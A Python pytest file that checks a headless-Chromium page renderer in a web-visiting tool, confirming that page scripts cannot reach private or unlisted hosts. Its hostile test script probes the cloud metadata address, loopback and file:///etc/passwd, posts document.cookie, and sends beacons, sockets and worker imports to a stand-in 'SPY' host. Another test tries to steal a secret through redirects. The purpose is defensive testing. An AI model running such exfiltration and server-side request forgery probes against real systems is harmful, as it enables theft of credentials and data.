"""A page rendered by a real Chromium: its text, and everything that it must not be able to reach."""

from __future__ import annotations

import os
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from tests.tools.web.loopback import FakeResolver, Site, answer, connections, redirect, running
from tools.base import CallContext, ToolError
from tools.visit.browser import ChromiumRenderer, find_chromium
from tools.visit.config import VisitConfig
from tools.visit.tool import VisitArguments, VisitTool
from tools.web.client import Fetcher
from tools.web.policy import FetchConfig

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.skipif(find_chromium() is None, reason="NO CHROMIUM: apt-get install chromium, to test rendered pages"),
]
CALL = CallContext("s1.1", 1)
APP = """
<html><head><title>An app</title></head>
<body><div id="root"></div><script src="/app.js"></script></body></html>
"""
SCRIPT = """
const root = document.getElementById('root');
const say = text => { const p = document.createElement('p'); p.textContent = text; root.appendChild(p); };
fetch('/data.json').then(r => r.json()).then(d => say('The lighthouse was built in ' + d.year + '.'));
const denied = ['http://127.0.0.1:1/', 'http://169.254.169.254/latest/', 'http://private.test/', 'http://10.0.0.1/',
  'http://[::1]/', 'http://0x7f000001/', 'file:///etc/passwd', 'http://SPY/get'];
Promise.all(denied.map(url => fetch(url).then(() => 1, () => 0)))
  .then(got => say('reached ' + got.reduce((a, b) => a + b)));
fetch('/upload', {method: 'POST', body: document.cookie}).then(() => say('posted'), () => say('not posted'));
navigator.sendBeacon('http://SPY/beacon', 'x');
new Image().src = 'http://SPY/image';
try { const s = new WebSocket('ws://SPY/socket'); s.onmessage = () => say('socket'); } catch (e) {}
try { new EventSource('http://SPY/events'); } catch (e) {}
try { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:SPY'}]}); pc.createDataChannel('a');
  pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}
try { const code = new Blob(["fetch('http://SPY/worker'); importScripts('http://SPY/import')"]);
  new Worker(URL.createObjectURL(code)); } catch (e) {}
if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => 0);
for (const [tag, key] of [['iframe', 'src'], ['link', 'href'], ['embed', 'src'], ['video', 'src']]) {
  const e = document.createElement(tag); e[key] = 'http://SPY/' + tag; if (tag == 'link') e.rel = 'prefetch';
  document.body.appendChild(e); }
const a = document.createElement('a'); a.href = '/file.bin'; a.download = 'x'; document.body.appendChild(a); a.click();
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site() -> AsyncIterator[Site]:
    async with running() as site:
        yield site


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def tool(site: Site, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[VisitTool]:
    config = FetchConfig(allow_hosts=(f"127.0.0.1:{site.port}",), total_s=5)
    fetcher = Fetcher(config, resolver=FakeResolver({"private.test": ["10.0.0.1"]}))
    made = VisitTool(
        fetcher,
        tmp_path_factory.mktemp("pages"),
        VisitConfig(robots="off"),
        renderer=ChromiumRenderer(fetcher, limit_s=60),
    )
    yield made
    await made.aclose()


async def visit(tool: VisitTool, url: str) -> str:
    return (await tool.run(VisitArguments(urls=[url]), CALL)).text


async def test_scripts_write_the_page_and_reach_nothing(tool: VisitTool, site: Site) -> None:
    async with running() as spy:
        site.pages["/app"] = answer(APP)
        site.pages["/app.js"] = answer(SCRIPT.replace("SPY", f"127.0.0.1:{spy.port}"), kind="text/javascript")
        site.pages["/data.json"] = answer('{"year": 1831}', kind="application/json")
        site.pages["/file.bin"] = answer(b"x" * 100, kind="application/octet-stream")
        with connections() as reached:
            text = await visit(tool, site.url("/app"))
        assert spy.requests == []
    assert "The lighthouse was built in 1831." in text
    assert "rendered by a browser" in text
    assert "reached 0" in text and "not posted" in text
    assert "socket" not in text
    assert {address for address in reached if isinstance(address, tuple)} == {("127.0.0.1", site.port)}
    asked = {request.split(" ")[1] for request in site.requests}
    assert {"/app", "/app.js", "/data.json"} <= asked <= {"/app", "/app.js", "/data.json", "/file.bin"}
    assert all(request.startswith("GET ") for request in site.requests)


async def test_a_page_that_needs_no_browser_gets_none(tool: VisitTool, site: Site) -> None:
    site.pages["/plain"] = answer("<p>" + "Enough words to read without any script. " * 20 + "</p><script>x</script>")
    assert "rendered" not in await visit(tool, site.url("/plain"))


async def test_where_a_script_leads_is_where_the_text_is_from(tool: VisitTool, site: Site) -> None:
    site.pages["/go"] = answer("<html><body><script>location.href = '/there'</script></body></html>")
    site.pages["/there"] = answer("<html><body><p>Arrived after all.</p></body></html>")
    text = await visit(tool, site.url("/go"))
    assert "Arrived after all." in text


async def test_a_script_cannot_lead_into_a_private_place(tool: VisitTool, site: Site) -> None:
    site.pages["/in"] = answer("<html><body><script>location.href = 'http://10.0.0.1/'</script></body></html>")
    site.pages["/hop"] = redirect("http://10.0.0.1/")
    site.pages["/in2"] = answer("<html><body><script src='/hop'></script></body></html>")
    for path in ("/in", "/in2"):
        with connections() as reached, pytest.raises(ToolError):
            await visit(tool, site.url(path))
        assert {address for address in reached if isinstance(address, tuple)} == {("127.0.0.1", site.port)}


async def test_a_page_cannot_read_what_only_configuration_opens(site: Site, tmp_path: Path) -> None:
    """The corpus and allowed hosts are out of reach for the scripts of other pages, by redirects as well."""
    async with running() as private:
        private.pages["/secret"] = answer("canary-7d", kind="text/plain", headers=("Access-Control-Allow-Origin: *",))
        allowed = (f"127.0.0.1:{site.port}", f"127.0.0.1:{private.port}")
        corpus = {"corpus.local": f"127.0.0.1:{private.port}"}
        fetcher = Fetcher(FetchConfig(allow_hosts=allowed), resolver=FakeResolver({}), hosts=corpus)
        renderer = ChromiumRenderer(fetcher, limit_s=60)
        tool = VisitTool(fetcher, tmp_path, VisitConfig(robots="off"), renderer=renderer)
        for number, target in enumerate((private.url("/secret"), "http://corpus.local/secret")):
            site.pages[f"/hop{number}"] = redirect(target)
            site.pages[f"/steal{number}"] = answer(
                "<html><body><script>const say = t => document.body.append(t + ' ');"
                f"for (const u of ['{target}', '/hop{number}']) "
                "fetch(u).then(r => r.text()).then(say, () => say('refused'))"
                "</script></body></html>"
            )
            text = await visit(tool, site.url(f"/steal{number}"))
            assert text.count("refused") == 2
            assert "canary" not in text
        assert private.requests == []
        await tool.aclose()


async def test_a_page_that_never_rests_is_given_up(site: Site) -> None:
    fetcher = Fetcher(FetchConfig(allow_hosts=(f"127.0.0.1:{site.port}",)), resolver=FakeResolver({}))
    renderer = ChromiumRenderer(fetcher, limit_s=6)
    site.pages["/busy"] = answer("<html><body><script>while (true) {}</script></body></html>")
    page = await fetcher.fetch(site.url("/busy"))
    with pytest.raises(ToolError, match="longer than") as failure:
        await renderer.render(page)
    assert failure.value.kind == "timeout"
    site.pages["/fine"] = answer("<html><body><script>document.body.append('fine again')</script></body></html>")
    assert b"fine again" in (await renderer.render(await fetcher.fetch(site.url("/fine")))).body
    await renderer.aclose()
    await fetcher.aclose()


async def test_what_is_missing_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fetcher = Fetcher()
    with monkeypatch.context() as patch:
        patch.setitem(sys.modules, "playwright.async_api", None)
        with pytest.raises(ModuleNotFoundError, match=r"longstride\[browser\]"):
            ChromiumRenderer(fetcher)
    with pytest.raises(FileNotFoundError, match=r"no-such-browser.*visit\.browser_path"):
        ChromiumRenderer(fetcher, "no-such-browser")
    script = tmp_path / "mine"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    assert find_chromium(str(script)) == str(script)
    assert os.access(find_chromium() or "", os.X_OK)
    await fetcher.aclose()
